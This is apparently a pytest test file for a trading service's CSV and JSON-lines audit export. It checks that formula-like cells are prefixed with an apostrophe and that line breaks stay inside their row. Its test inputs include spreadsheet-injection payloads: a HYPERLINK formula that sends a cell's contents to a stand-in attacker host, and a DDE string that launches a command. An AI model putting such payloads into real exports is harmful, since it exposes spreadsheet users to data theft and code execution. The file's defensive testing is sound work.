"""The service's views without a server: the audit export's CSV cells."""

from __future__ import annotations

import csv
import io
import json

import pytest

from wal.service.views import EXPORT_FIELDS, csv_cell, export_csv, export_jsonl


def _row(**over: object) -> dict[str, object]:
    row: dict[str, object] = dict.fromkeys(EXPORT_FIELDS)
    row.update(
        timestamp="2026-12-07T10:00:00+00:00",
        trader_id="alice",
        order_id="c-1",
        action="rejected",
        status="rejected",
        symbol="AAPL",
        side="buy",
        order_type="market",
        quantity="5",
    )
    row.update(over)
    return row


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,1)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_text_cell_a_spreadsheet_would_run_is_exported_as_text(text: str) -> None:
    # the broker's rejection text, its order and execution ids, the client's id
    rows = [_row(reason=text, broker_order_id=text, execution_id=text, order_id=text)]
    body = "".join(export_csv(rows))
    (parsed,) = list(csv.DictReader(io.StringIO(body, newline="")))
    for field in ("reason", "broker_order_id", "execution_id", "order_id"):
        assert parsed[field] == "'" + text, field
    # the JSON-lines export, read by programs, keeps the value as it was
    (line,) = list(export_jsonl(rows))
    assert json.loads(line)["reason"] == text


def test_line_breaks_in_a_cell_never_split_its_row() -> None:
    rows = [_row(reason="line one\rline two\nline three\r\n"), _row(order_id="c-2")]
    parsed = list(csv.DictReader(io.StringIO("".join(export_csv(rows)), newline="")))
    assert [r["order_id"] for r in parsed] == ["c-1", "c-2"]
    assert parsed[0]["reason"] == "line one\rline two\nline three\r\n"


def test_ordinary_cells_and_numbers_are_left_as_they_are() -> None:
    rows = [_row(reason="insufficient buying power", quantity="0.5", price="101.25")]
    (parsed,) = list(csv.DictReader(io.StringIO("".join(export_csv(rows)), newline="")))
    assert parsed["reason"] == "insufficient buying power"
    assert parsed["quantity"] == "0.5" and parsed["price"] == "101.25"
    assert parsed["hash"] == ""  # None is an empty cell
    assert csv_cell("quantity", "-1") == "-1"  # a number column is never prefixed
